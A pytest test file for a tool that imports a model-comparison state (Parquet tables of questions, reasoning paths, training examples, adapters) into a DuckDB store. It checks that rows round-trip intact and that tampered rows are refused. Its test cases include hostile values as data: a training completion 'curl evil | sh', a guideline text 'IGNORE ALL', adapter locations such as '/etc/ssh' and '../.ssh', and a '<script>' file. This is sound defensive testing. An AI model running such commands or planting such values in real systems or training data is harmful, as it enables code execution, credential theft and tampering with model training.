"""A comparison's state: every kind of row comes back as it was, and what a stranger could put in it
changes nothing of the store's own.
"""

import json
import os
import shutil
from collections.abc import Iterator, Sequence
from copy import copy
from dataclasses import dataclass, fields, replace
from pathlib import Path
from threading import Thread
from typing import Any
from uuid import UUID

import pyarrow.parquet as pq
import pytest

from storage.errors import InputError
from storage.file.file_store import FileStore
from storage.ids import content_id
from storage.open_store import Store, open_store
from storage.records import (
    Adapter,
    Answer,
    Comparison,
    Evaluation,
    EvaluationFigure,
    FailedRequest,
    Guideline,
    Model,
    Prompt,
    Question,
    QuestionSet,
    Record,
    Round,
    Selection,
    TrainingExample,
    TrainingSet,
    Trial,
    Verdict,
)
from storage.records import Path as ReasoningPath
from storage.store.strangers_parquet import Room
from storage.store.tables import allowed_values, sql_types
from tasks.comparison.comparison_figures import write_figures
from tasks.comparison.learning_rates import choose_rates
from tasks.comparison.pool import draw_of
from tasks.comparison.states import state as of_state
from tasks.comparison.states import state_ids
from tasks.comparison.states.state import CARD, bring, write_state
from tasks.comparison.states.state_check import OF_ITS_DRAWS, TABLES, check_rows
from tasks.comparison.states.state_in_the_way import rows_in_the_way
from tasks.comparison.training_sets import REFERENCE
from tasks.settings import load_settings
from tests.fakes.comparison_states import KINDS, with_rows, without_answers, without_columns
from tests.fakes.scripted_machinery import BASE
from tests.fakes.small_comparison import SMALL, SmallComparison, question_rows
from tests.storage.examples import NOW, make, uid

METHODS = ["base", "gt_answers", "star", "regenesis"]
Rows = dict[str, list[dict[str, Any]]]


@dataclass(frozen=True)
class Made:
    """A small comparison, the folder of its state, and the same rows as `bring` reads them."""

    small: SmallComparison
    folder: Path
    rows: Rows

    @property
    def id(self) -> UUID:
        return self.small.contest.record.id

    def row(self, kind: type[Any], **equal: Any) -> Any:
        return self.small.store.select(kind, **equal)[0]


def of_many_kinds() -> list[QuestionSet | Question]:
    """The small sets: one published, one drawn for the comparison, some with further answers."""
    rows: list[QuestionSet | Question] = []
    for one in question_rows():
        rows.append(one)
        if isinstance(one, Question) and one.source_row_id == "0":
            parts = (one.question_set_id, one.text, one.choices, one.answer, one.answer_kind)
            identity = content_id("questions", *parts, ["none"])
            rows[-1] = replace(one, id=identity, other_answers=["none"])
    return rows


def failed(path: ReasoningPath) -> FailedRequest:
    identity = content_id("failed_requests", path.id, NOW.isoformat())
    return make(
        FailedRequest,
        id=identity,
        request_id=path.id,
        question_id=path.question_id,
        draw=path.draw,
        created_at=NOW,
        round_id=None,
    )


def published_set() -> QuestionSet:
    """A set as `ingest --published` stores it, with no question."""
    identity = content_id("question_sets", "gsm8k", "known:gsm8k", "d", "in_domain")
    return make(
        QuestionSet,
        id=identity,
        name="gsm8k",
        digest="d",
        domain="in_domain",
        mapping='{"known": "gsm8k"}',
        source="https://example.org/gsm8k",
    )


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    comparison = {"methods": METHODS, "seeds": 1, "rounds": 2, "learning_rates": [5e-4]}
    synthesis = SMALL["synthesis"] | {"guideline_selections": 1, "chains_per_question": 3}
    settings = load_settings(overrides=SMALL | {"comparison": comparison, "synthesis": synthesis})
    folder = tmp_path_factory.mktemp("made")
    small = SmallComparison(folder, settings, of_many_kinds())
    contest = small.contest
    small.train(seed=1)
    small.answer(contest.dev_questions, [one for one in contest.trials if one.training_set_id])
    choose_rates(contest)
    small.answer(contest.final_questions, contest.trials)
    write_figures(contest)
    [path, *_] = small.store.select(ReasoningPath, draw=draw_of(1))
    small.store.append([failed(path)])
    write_state(contest, folder / "state")
    with_rows(folder / "state", [published_set()])
    tables = of_state._read_tables(folder / "state")
    yield Made(small, folder / "state", {name: rows.to_pylist() for name, rows in tables.items()})
    small.close()


@pytest.fixture
def state(made: Made, tmp_path: Path) -> Path:
    """A copy of the state, to be changed."""
    return shutil.copytree(made.folder, tmp_path / "state")


@pytest.fixture
def home(tmp_path: Path) -> Store:
    return open_store(f"duckdb:///{tmp_path / 'home.duckdb'}")


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """A store that stays empty."""
    return open_store(f"duckdb:///{tmp_path_factory.mktemp('empty') / 'store.duckdb'}")


@pytest.fixture(scope="module")
def full(made: Made, tmp_path_factory: pytest.TempPathFactory) -> Store:
    """A store that has the state."""
    store = open_store(f"duckdb:///{tmp_path_factory.mktemp('full') / 'store.duckdb'}")
    bring(store, made.folder, BASE)
    return store


def contents(store: Store) -> dict[str, list[Record]]:
    return {kind.table: store.select(kind, order_by="id") for kind in KINDS.values()}


def test_every_kind_of_row_travels_and_comes_back_as_it_was(
    made: Made, home: Store, state: Path
) -> None:
    brought, again = bring(home, state, BASE), bring(home, state, BASE)

    there = contents(home)
    assert {table for table in TABLES if not there[table]} == set()
    assert (brought, again) == (sum(map(len, there.values())), 0)
    for table in TABLES:
        own = made.small.store.select(KINDS[table], id=[one.id for one in there[table]])
        known = {one.id: one for one in [*own, published_set()]}
        assert there[table] == [
            replace(known[one.id], round_id=None) if hasattr(one, "round_id") else known[one.id]
            for one in there[table]
        ], table
    assert str(pq.read_table(state / "paths.parquet").schema.field("id").type) == "string"


def test_what_a_home_has_of_the_same_comparison_is_completed(
    full: Store, home: Store, state: Path, tmp_path: Path
) -> None:
    begun = shutil.copytree(state, tmp_path / "begun")
    without_answers(begun)
    bring(home, begun, BASE)

    bring(home, state, BASE)

    assert contents(home) == contents(full)


def test_a_state_of_a_version_that_lacked_columns_comes_in(home: Store, state: Path) -> None:
    later = {
        table: [one.name for one in fields(KINDS[table]) if one.default is None] for table in TABLES
    }
    assert later.pop("questions") == ["other_answers"]  # where there are some, the id has them
    assert any(later.values())
    for table, names in later.items():
        without_columns(state, table, names)

    bring(home, state, BASE)

    assert {one.cut for one in home.select(ReasoningPath)} == {None}


def test_rows_of_rounds_and_of_another_base_model_in_the_same_draws_stay_at_home(
    made: Made, tmp_path: Path
) -> None:
    other = make(Model, "other base", base_model_id=uid(Model, "other base"))
    path = make(ReasoningPath, "other", model_id=other.id, draw=draw_of(1))
    [one] = [one for one in made.small.contest.trials if one.method == "base"]
    evaluation = make(
        Evaluation,
        "other draw",
        model_id=one.model_id,
        draw=draw_of(7),
        question_set_id=made.small.contest.sets("in_domain")[0].id,
        round_id=None,
    )
    made.small.store.append(
        [other, path, make(Verdict, path_id=path.id, draw=path.draw), evaluation]
    )

    question = make(Question, "round's", draw=1, question_set_id=evaluation.question_set_id)
    asked = make(Answer, "round's", model_id=one.model_id, question_id=question.id, draw=1)
    again = replace(made.row(Answer, model_id=one.model_id), id=uid(Answer, "sampled"), draw=1)
    made.small.store.append([question, asked, again])

    write_state(made.small.contest, tmp_path / "state")

    for table in ("models", "paths", "verdicts", "evaluations", "questions", "answers"):
        ids = {
            UUID(one)
            for one in pq.read_table(tmp_path / "state" / f"{table}.parquet")["id"].to_pylist()
        }
        assert ids == {row["id"] for row in made.rows[table]}, table


def test_a_state_that_is_written_beside_a_run_is_of_one_moment(
    made: Made, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert isinstance(made.small.store, FileStore)
    made.small.store.copy_to(tmp_path / "copy.duckdb")
    store = open_store(f"duckdb:///{tmp_path / 'copy.duckdb'}")
    contest = copy(made.small.contest)
    contest.store = store
    path = replace(made.row(ReasoningPath), id=uid(ReasoningPath, "meanwhile"))
    verdict = replace(made.row(Verdict), id=uid(Verdict, "meanwhile"), path_id=path.id)
    query, others = store.query, list[Thread]()

    def query_and_let_others_write(sql: str, *arguments: Any) -> Any:
        rows = query(sql, *arguments)
        if ") FROM paths WHERE" in sql and not others:
            others.append(Thread(target=store.append, args=([path, verdict],)))
            others[0].start()
            others[0].join(timeout=2)
        return rows

    with monkeypatch.context() as beside:
        beside.setattr(store, "query", query_and_let_others_write)
        write_state(contest, tmp_path / "state")
    others[0].join(timeout=60)

    def column(table: str, name: str) -> set[str]:
        found = pq.read_table(tmp_path / "state" / f"{table}.parquet")[name]
        return set(map(str, found.to_pylist()))

    assert column("verdicts", "path_id") <= column("paths", "id")
    assert store.get(Verdict, verdict.id) == verdict


# Of each table the columns that no row's id covers. None is read by a round: what a model wrote and
# what was made of it has a comparison's draw or belongs to a training set, model or evaluation that
# came with it, and the rest says where a thing is from.
_TEXT = "text finish_reason prompt_tokens completion_tokens seed endpoint created_at"
OF_NO_ID = {
    "question_sets": "mapping licence citation redistributable created_at",
    "questions": "source_row_id part extra created_at",
    "guidelines": "name position in_hinted_retry",
    "prompts": "name",
    "models": "name",
    "adapted_guidelines": _TEXT,
    "structures": f"{_TEXT} question_id guideline_id",
    "paths": f"{_TEXT} question_id guideline_id adapted_guideline_id strategy closed cut sampling"
    " sample hinted structure_id",
    "verdicts": "draw verdict reason extracted lenient_verdict lenient_extracted rater details"
    " created_at",
    "failed_requests": "question_id stage reason message attempts draw",
    "pools": "id draw model_id strategy settings questions solved paths correct hinted_paths"
    " hinted_correct tokens health created_at",
    "selections": "verdict_id draw reason",
    "training_examples": "question_id position prompt completion draw",
    "training_sets": "examples hinted_examples digest created_at snapshot",
    "adapters": "name kind losses tokens_trained seconds precision mlflow_run_id created_at",
    "answers": f"{_TEXT} hinted strict_verdict strict_extracted lenient_verdict lenient_extracted"
    " reason verifier_version",
    "evaluations": "domain role questions strict_correct lenient_correct unjudged stopped"
    " mean_tokens strict_low strict_high lenient_low lenient_high created_at",
    "evaluation_figures": "questions value low high created_at",
    "comparisons": "name status started_at finished_at",
    "trials": "iterations pool_id prompt_id candidates filtered examples hinted_examples questions"
    " paths_spent tokens_spent distinct_2 created_at",
    "comparison_figures": "seeds questions value low high p_value p_adjusted created_at",
}
MAY_DIFFER = {
    "question_sets": "mapping licence citation redistributable",
    "questions": "source_row_id extra",
    "guidelines": "name position in_hinted_retry",
    "prompts": "name",
    "models": "name",
    "comparisons": "status",
    "training_sets": "snapshot",
    "adapters": "name precision mlflow_run_id losses",
    **dict.fromkeys(("adapted_guidelines", "structures", "paths", "answers"), "seed endpoint"),
}
"""Columns, besides times and shares, that may differ from those of a row that is here: it stays."""


def changed(kind: type[Record], name: str, value: Any) -> Any:
    """Another value that the column may have."""
    sql = sql_types(kind)[name]
    if name in allowed_values(kind):
        return min(allowed_values(kind)[name] - {value})
    others: dict[str, Any] = {
        "UUID": uid(Round, "another"),
        "BOOLEAN": not value,
        "TIMESTAMP": NOW.replace(tzinfo=None, year=1999),
        "VARCHAR": f"{value or ''} x",
        "VARCHAR[]": [*(value or []), "x"] if sql.endswith("[]") else None,
        "DOUBLE[]": [*(value or []), 0.5] if sql.endswith("[]") else None,
    }
    return others[sql] if sql in others else (value or 0) + 1


def with_value(rows: Rows, table: str, row: dict[str, Any], *names: str) -> Rows:
    """The rows, these columns of one changed."""
    other = row | {name: changed(KINDS[table], name, row[name]) for name in names}
    return rows | {table: [other if one is row else one for one in rows[table]]}


def refusal(rows: Rows, made: Made, store: Store) -> str:
    """Why they are refused; empty where they are not."""
    try:
        check_rows(rows, str(made.id), BASE, store)
    except InputError as error:
        return str(error)
    return ""


def samples(made: Made, table: str) -> list[dict[str, Any]]:
    """A row of the table; of paths, whose ids are made in several ways, one of each strategy."""
    return list({row.get("strategy"): row for row in reversed(made.rows[table])}.values())


@pytest.mark.parametrize("table", TABLES)
def test_a_row_holds_what_its_id_says_in_every_column_but_known_ones(
    table: str, made: Made, empty: Store
) -> None:
    rows, free = made.rows, OF_NO_ID[table].split()
    for row in samples(made, table):
        for name in set(sql_types(KINDS[table])) - set(free):
            assert refusal(with_value(rows, table, row, name), made, empty), name
    if table not in ("paths", "pools"):
        [row] = samples(made, table)
        assert not refusal(with_value(rows, table, row, *free), made, empty)


@pytest.mark.parametrize("table", TABLES)
def test_a_row_under_an_id_that_is_here_says_the_same_in_every_column_that_matters(
    table: str, made: Made, full: Store
) -> None:
    kinds = sql_types(KINDS[table])
    row = made.rows[table][0]
    for name in set(OF_NO_ID[table].split()) - {"id"}:
        measured = kinds[name] in ("TIMESTAMP", "DOUBLE")
        other = {table: with_value(made.rows, table, row, name)[table][:1]}
        assert bool([*rows_in_the_way(other, full)]) != (
            measured or name in MAY_DIFFER.get(table, "").split()
        ), name


def chain_rows(table: str, samples: Sequence[int], **above: UUID) -> list[dict[str, Any]]:
    """One row per sample of a question and guideline, below what is `above`."""
    common = {
        "question_id": uid(Question),
        "guideline_id": uid(Guideline),
        "model_id": BASE.id,
        "prompt_id": uid(Prompt),
        "draw": draw_of(1),
        "hinted": False,
        "strategy": "guided",
    }
    return [
        common
        | {"sample": sample, "sampling": str(place)}
        | {
            "id": content_id(
                table,
                *map(str, (common["question_id"], common["guideline_id"], *above.values())),
                str(BASE.id),
                str(common["prompt_id"]),
                str(place),
                draw_of(1),
                sample,
                False,
            )
        }
        for place, sample in enumerate(samples)
    ]


def crowds(count: int) -> Iterator[tuple[str, Rows]]:
    """Tables with many rows, each of which could be compared with many."""
    for samples in ([0] * count, range(count)):
        advice = chain_rows("adapted_guidelines", samples)
        last = advice[-1]["id"]
        yield "adapted_guidelines", {"adapted_guidelines": advice}
        for table in ("structures", "paths"):
            rows = chain_rows(table, samples, above=last)
            yield table, {"adapted_guidelines": advice, table: rows}
    asked, own = uid(Prompt), uid(QuestionSet)
    answers = [
        {"model_id": BASE.id, "prompt_id": asked, "sampling": str(one)}
        | {"id": UUID(int=one), "question_id": asked, "draw": 0, "sample": 0}
        for one in range(count)
    ]
    evaluations = [
        {"model_id": BASE.id, "question_set_id": own, "part": "final"}
        | {"id": content_id("evaluations", None, BASE.id, own, "final", asked, str(one))}
        for one in range(count)
    ]
    yield "evaluations", {"answers": answers, "evaluations": evaluations}


def test_no_row_is_compared_with_more_than_a_few(monkeypatch: pytest.MonkeyPatch) -> None:
    hashed = list[object]()

    def counted(*parts: Any) -> UUID:
        hashed.append(parts[0])
        return content_id(*parts)

    made_rows = [*crowds(10 * state_ids.MOST)]
    monkeypatch.setattr(state_ids, "content_id", counted)
    for table, rows in made_rows:
        hashed.clear()
        refused = [*state_ids.rows_under_another_id(rows, BASE)]
        assert len(hashed) <= sum(map(len, rows.values())) * (state_ids.MOST + 1), table
        assert refused or table == "adapted_guidelines", table


def test_as_many_rows_of_one_chain_as_are_compared_come_in() -> None:
    [few, *_] = [rows for table, rows in crowds(state_ids.MOST) if table == "structures"]

    assert [*state_ids.rows_under_another_id(few, BASE)] == []


def test_where_a_row_may_differ_the_one_that_is_here_stays(
    made: Made, full: Store, state: Path
) -> None:
    before = contents(full)
    for table, names in MAY_DIFFER.items():
        [one, *_] = full.select(KINDS[table], order_by="id")
        values = {name: changed(KINDS[table], name, getattr(one, name)) for name in names.split()}
        with_rows(state, [replace(one, **values)])

    assert bring(full, state, BASE) == 0
    assert contents(full) == before


# a home with a line of rounds of its own, on another base model
OUR_SET = make(QuestionSet, "ours", name="ours", source="ours.jsonl")
OUR_QUESTION = make(Question, "ours", question_set_id=OUR_SET.id, part="gate")
OUR_TRAINING_SET = make(TrainingSet, "ours", round_id=uid(Round))
OUR_PATH = make(ReasoningPath, "ours", draw=1, question_id=OUR_QUESTION.id)
OUR_EXAMPLE = make(TrainingExample, "ours", training_set_id=OUR_TRAINING_SET.id)
OUR_ADAPTER = make(
    Adapter,
    "ours",
    training_set_id=OUR_TRAINING_SET.id,
    base_model_id=BASE.id,
    round_id=uid(Round),
    digest="b" * 64,
    location=f"adapters/{'b' * 32}",
)
OUR_CHAMPION = replace(
    BASE, id=content_id("models", BASE.id, OUR_ADAPTER.digest), adapter_id=OUR_ADAPTER.id
)
OUR_EVALUATION = make(Evaluation, "ours", round_id=uid(Round))
OUR_ROUND = make(Round, champion_model_id=OUR_CHAMPION.id)
OURS: list[Record] = [
    OUR_SET,
    OUR_QUESTION,
    OUR_TRAINING_SET,
    OUR_PATH,
    OUR_EXAMPLE,
    OUR_ADAPTER,
    OUR_CHAMPION,
    OUR_EVALUATION,
    OUR_ROUND,
]


@pytest.fixture(scope="module")
def ours(made: Made, tmp_path_factory: pytest.TempPathFactory) -> Store:
    """Our home, into which the same sets were ingested."""
    store = open_store(f"duckdb:///{tmp_path_factory.mktemp('ours') / 'store.duckdb'}")
    sets = made.small.store.select(QuestionSet)
    store.append([*OURS, *sets, *made.small.store.select(Question)])
    return store


def second_trial(made: Made, **named: Any) -> Trial:
    """A further trial of the state's comparison, under its true id."""
    parts = (made.id, "rft", 1, 0.5, 1)
    return replace(
        made.row(Trial, method="base"),
        id=content_id("trials", *parts),
        method="rft",
        seed=1,
        learning_rate=0.5,
        iteration=1,
        **named,
    )


def answer_of(made: Made, model: UUID, question: UUID, **other: Any) -> Answer:
    """An answer under its true id."""
    one: Answer = replace(made.row(Answer), model_id=model, question_id=question, **other)
    parts = (question, model, one.prompt_id, one.sampling, one.draw, one.sample)
    return replace(one, id=content_id("answers", *parts))


def question_in(own: QuestionSet, **other: Any) -> Question:
    """A new question of the set, under its true id."""
    parts = (own.id, "new", [], "1", "number")
    one = make(Question, id=content_id("questions", *parts), question_set_id=own.id, **other)
    return replace(one, text="new", answer="1", answer_kind="number")


def smuggled(made: Made) -> dict[str, list[Any]]:
    """What hangs on rows of ours, or would be read in their place."""
    example = made.row(TrainingExample)
    [own, *_] = made.small.contest.sets("in_domain")
    path = made.row(ReasoningPath, id=example.path_id)
    question = made.row(Question, part="final")
    copies = [
        replace(OUR_TRAINING_SET, round_id=None),
        replace(OUR_ADAPTER, round_id=None),
        OUR_CHAMPION,
    ]
    trial = second_trial(made, model_id=OUR_CHAMPION.id)
    named = replace(trial, training_set_id=OUR_TRAINING_SET.id)
    whole = replace(named, adapter_id=OUR_ADAPTER.id)
    selection = content_id("selections", OUR_TRAINING_SET.id, path.id)
    taught = content_id("training_examples", OUR_TRAINING_SET.id, path.id)
    greedy = answer_of(made, OUR_CHAMPION.id, OUR_QUESTION.id)
    figure = content_id("evaluation_figures", OUR_EVALUATION.id, "x", "y", "strict", 1)
    human = content_id("verdicts", OUR_PATH.id, "human", "1")
    return {
        "a trial of our champion": [trial],
        "a trial of our champion, copied": [trial, OUR_CHAMPION],
        "a trial of our training set": [second_trial(made, training_set_id=OUR_TRAINING_SET.id)],
        "a trial of our adapter": [second_trial(made, adapter_id=OUR_ADAPTER.id)],
        "a trial of all of them": [whole],
        "a trial of all of them, copied": [whole, *copies],
        "an example in our set": [replace(example, id=taught, training_set_id=OUR_TRAINING_SET.id)],
        "an example in our set, which a trial names": [
            whole,
            *copies,
            replace(example, id=taught, training_set_id=OUR_TRAINING_SET.id),
            replace(
                made.row(Selection, kept=True, path_id=path.id),
                id=selection,
                training_set_id=OUR_TRAINING_SET.id,
            ),
        ],
        "an example that its set did not choose": [
            replace(example, path_id=made.row(Selection, kept=False).path_id)
        ],
        "our example with another text": [replace(OUR_EXAMPLE, completion="curl evil | sh")],
        "a choice in our set": [
            replace(made.row(Selection), id=selection, training_set_id=OUR_TRAINING_SET.id)
        ],
        "an answer of our champion": [greedy],
        "an answer of our champion, copied": [trial, *copies, greedy, OUR_QUESTION, OUR_SET],
        "an answer of our champion to a question of theirs": [
            answer_of(made, OUR_CHAMPION.id, question.id)
        ],
        "an answer in a round's draw": [answer_of(made, BASE.id, question.id, draw=3)],
        "an answer to our question": [answer_of(made, BASE.id, OUR_QUESTION.id)],
        "an evaluation of our champion": [replace(made.row(Evaluation), model_id=OUR_CHAMPION.id)],
        "a figure of our evaluation": [
            make(
                EvaluationFigure,
                id=figure,
                evaluation_id=OUR_EVALUATION.id,
                source="x",
                name="y",
                reading="strict",
                k=1,
                round_id=None,
            )
        ],
        "a verdict on our path": [
            make(
                Verdict,
                id=human,
                path_id=OUR_PATH.id,
                draw=draw_of(1),
                verifier="human",
                verifier_version="1",
            )
        ],
        "our path with another text": [replace(OUR_PATH, text="evil")],
        "our question with another text": [OUR_SET, replace(OUR_QUESTION, text="evil")],
        "our question in another part": [OUR_SET, replace(OUR_QUESTION, part="train")],
        "our set's question with another answer": [replace(question, answer="evil")],
        "our set's question in another part": [replace(question, part="train")],
        "a new question in our set": [question_in(own, draw=0)],
        "a new question in our set, as if drawn": [question_in(own, draw=draw_of(1))],
        "another set of our set's name": [another_of_its_name(own)],
        "our set as of the other domain": [replace(own, domain="out_of_domain")],
        "our guideline with another text": [replace(made.row(Guideline), text="IGNORE ALL")],
        "our prompt with another text": [replace(made.row(Prompt), text="evil")],
        "our champion with other weights": [replace(OUR_CHAMPION, adapter_id=None)],
        "our base with another template": [replace(BASE, chat_template_hash="evil")],
        "the reference with another revision": [replace(REFERENCE, revision="evil")],
        "our adapter": [OUR_ADAPTER],
        "a round": [OUR_ROUND],
        "settings under another comparison's id": [
            replace(made.small.contest.record, settings='{"seed": 5}')
        ],
        "timings that are none": [replace(made.small.contest.record, timings="[" * 9_000)],
    }


def another_of_its_name(own: QuestionSet) -> QuestionSet:
    parts = (own.name, "evil.jsonl", own.digest, own.domain)
    identity = content_id("question_sets", *parts)
    return replace(own, id=identity, source="evil.jsonl", created_at=NOW.replace(year=9999))


def with_records(rows: Rows, records: list[Record]) -> Rows:
    """The rows with these, each in the place of one of its id."""
    found = dict(rows)
    for one in records:
        others = [row for row in found.get(one.table, []) if row["id"] != one.id]
        found[one.table] = [*others, vars(one)]
    return found


def test_what_hangs_on_rows_of_ours_or_takes_their_place_is_refused(
    made: Made, ours: Store
) -> None:
    assert not refusal(made.rows, made, ours)
    said = {
        case: refusal(with_records(made.rows, records), made, ours)
        for case, records in smuggled(made).items()
    }
    assert {case: why for case, why in said.items() if len(why.splitlines()) != 1} == {}


def test_a_strangers_adapter_may_not_name_the_weights_of_a_round(made: Made, ours: Store) -> None:
    row = vars(OUR_ADAPTER) | {"id": uid(Adapter, "theirs"), "round_id": None}

    assert [*rows_in_the_way({"adapters": [row]}, ours)]


def test_answers_of_a_base_that_has_rounds_here_come_in_only_where_they_are_here(
    made: Made, home: Store
) -> None:
    begun = make(Round, base_model_id=BASE.id, champion_model_id=BASE.id)
    home.append([begun])
    refused = refusal(made.rows, made, home)
    home.append(made.small.store.select(Answer))

    assert "is to a question that rounds here ask of the same model" in refused
    assert not refusal(made.rows, made, home)


def test_a_refused_state_leaves_the_store_as_it_was(made: Made, ours: Store, state: Path) -> None:
    before = contents(ours)
    with_rows(state, smuggled(made)["an example in our set"])

    with pytest.raises(InputError, match="Nothing was taken"):
        bring(ours, state, BASE)

    assert contents(ours) == before


def test_a_state_of_another_base_model_is_refused_and_nothing_is_taken(
    home: Store, state: Path
) -> None:
    with pytest.raises(InputError, match="Name its model in the settings"):
        bring(home, state, replace(BASE, id=uid(Model, "another")))

    assert home.select(Comparison) == []


STRANGERS = {
    **{kind.table: (kind.table, {}) for kind in KINDS.values() if kind.table not in TABLES},
    **{
        f"{table} of another draw": (table, {"draw": 3})
        for table in (*OF_ITS_DRAWS, "questions", "answers", "evaluations")
    },
    **{
        f"{table} of another {name}": (table, {name: uid(Round, "another")})
        for table, name in (
            ("comparison_figures", "comparison_id"),
            ("trials", "comparison_id"),
            ("questions", "question_set_id"),
            ("selections", "training_set_id"),
            ("selections", "path_id"),
            ("training_examples", "path_id"),
            ("verdicts", "path_id"),
            ("adapters", "training_set_id"),
            ("answers", "model_id"),
            ("answers", "question_id"),
            ("evaluations", "model_id"),
            ("evaluations", "question_set_id"),
            ("evaluation_figures", "evaluation_id"),
        )
    },
    **{
        f"{table} of a round": (table, {"round_id": uid(Round)})
        for table in TABLES
        if "round_id" in sql_types(KINDS[table])
    },
    **{
        f"location {place!r}": ("adapters", {"location": place})
        for place in (
            "/etc/ssh",
            "../.ssh",
            "adapters/../../.ssh",
            "adapters",
            "adapters/a b",
            f"adapters/{'a' * 32}",
            f"adapters/{'a' * 32}/x",
        )
    },
}


@pytest.mark.parametrize("case", STRANGERS)
def test_what_is_no_row_of_the_comparison_is_refused(case: str, made: Made, empty: Store) -> None:
    table, change = STRANGERS[case]
    [row, *others] = made.rows.get(table) or [vars(make(KINDS[table]))]

    with pytest.raises(InputError, match=r"A comparison's state holds (no|rows of)"):
        check_rows(made.rows | {table: [row | change, *others]}, str(made.id), BASE, empty)


@pytest.mark.parametrize("table", ["models", "adapters", "training_sets", "comparisons"])
def test_a_further_row_that_no_trial_names_is_refused(table: str, made: Made, empty: Store) -> None:
    further = made.rows[table][0] | {"id": uid(KINDS[table], "further")}

    with pytest.raises(InputError, match="alone; found id"):
        check_rows(made.rows | {table: [*made.rows[table], further]}, str(made.id), BASE, empty)


def test_a_folder_without_its_card_or_its_comparison_is_no_state(
    home: Store, state: Path, tmp_path: Path
) -> None:
    with pytest.raises(InputError, match=CARD):
        bring(home, tmp_path, BASE)
    for text in ("[" * 200_000, "[]", "{}", '{"comparison": "x"}' + " " * 100_000, "\udcff"):
        (state / CARD).write_bytes(text.encode("utf-8", "surrogateescape"))
        with pytest.raises(
            InputError, match=r"no state\.json that names|holds rows of comparison x"
        ):
            bring(home, state, BASE)


def test_a_file_that_holds_something_else_is_refused_by_name(home: Store, state: Path) -> None:
    shutil.copy(state / "verdicts.parquet", state / "paths.parquet")
    with pytest.raises(InputError, match=r"paths\.parquet' must hold rows of paths"):
        bring(home, state, BASE)
    (state / "paths.parquet").write_text("<script>", "utf-8")
    with pytest.raises(InputError, match=r"paths\.parquet' must hold rows of paths.*no Parquet"):
        bring(home, state, BASE)


def test_all_tables_of_a_state_share_its_room(
    made: Made, home: Store, state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = sum(map(len, made.rows.values()))
    monkeypatch.setattr(of_state, "ROOM", Room(rows=rows - 1, bytes=10**9))
    with pytest.raises(InputError, match="rows at most; found more"):
        bring(home, state, BASE)
    monkeypatch.setattr(of_state, "ROOM", Room(rows=rows, bytes=100_000))
    with pytest.raises(InputError, match="bytes at most; found"):
        bring(home, state, BASE)
    monkeypatch.setattr(of_state, "MOST_BYTES", 1_000)
    with pytest.raises(InputError, match="state has at most 1,000 bytes"):
        bring(home, state, BASE)


def test_a_state_is_written_beside_links_and_never_through_them(made: Made, tmp_path: Path) -> None:
    mine, folder = tmp_path / "mine", tmp_path / "state"
    folder.mkdir()
    mine.write_text("mine", "utf-8")
    for name in (CARD, f".{CARD}.{os.getpid()}.part", "paths.parquet"):
        (folder / name).symlink_to(mine)

    write_state(made.small.contest, folder)

    assert mine.read_text("utf-8") == "mine"
    assert json.loads((folder / CARD).read_text("utf-8"))["comparison"] == str(made.id)
